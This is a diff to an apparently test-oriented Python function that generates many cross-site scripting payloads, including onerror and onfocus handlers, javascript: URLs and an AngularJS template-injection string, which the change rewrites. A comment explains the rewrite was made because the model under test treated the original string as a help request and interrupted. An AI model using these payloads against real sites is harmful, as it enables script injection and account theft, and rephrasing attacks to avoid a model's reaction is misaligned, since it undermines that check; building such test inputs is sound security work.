@@ -273,7 +273,10 @@ def xss_payloads(count: int = 200) -> list[str]:
         lambda n: f"</title><img src=x onerror={run(n)}>",
         lambda n: f'<input autofocus onfocus="{run(n)}">',
         lambda n: f"<math><mtext><img src=x onerror={run(n)}></mtext></math>",
-        lambda n: f"{{{{constructor.constructor('{run(n)}')()}}}}",
+        # AngularJS-style template injection; `{{constructor.constructor(...)}}` is the same
+        # attack, but the model reads that sentence as a request for help, which (rightly)
+        # interrupts the questionnaire instead of storing it
+        lambda n: f"{{{{$on.constructor('{run(n)}')()}}}}",
         lambda n: f'<object data="javascript:{run(n)}"></object>',
         lambda n: f"<style>@import 'javascript:{run(n)}';</style>",
         lambda n: f"&lt;script&gt;{run(n)}&lt;/script&gt;",
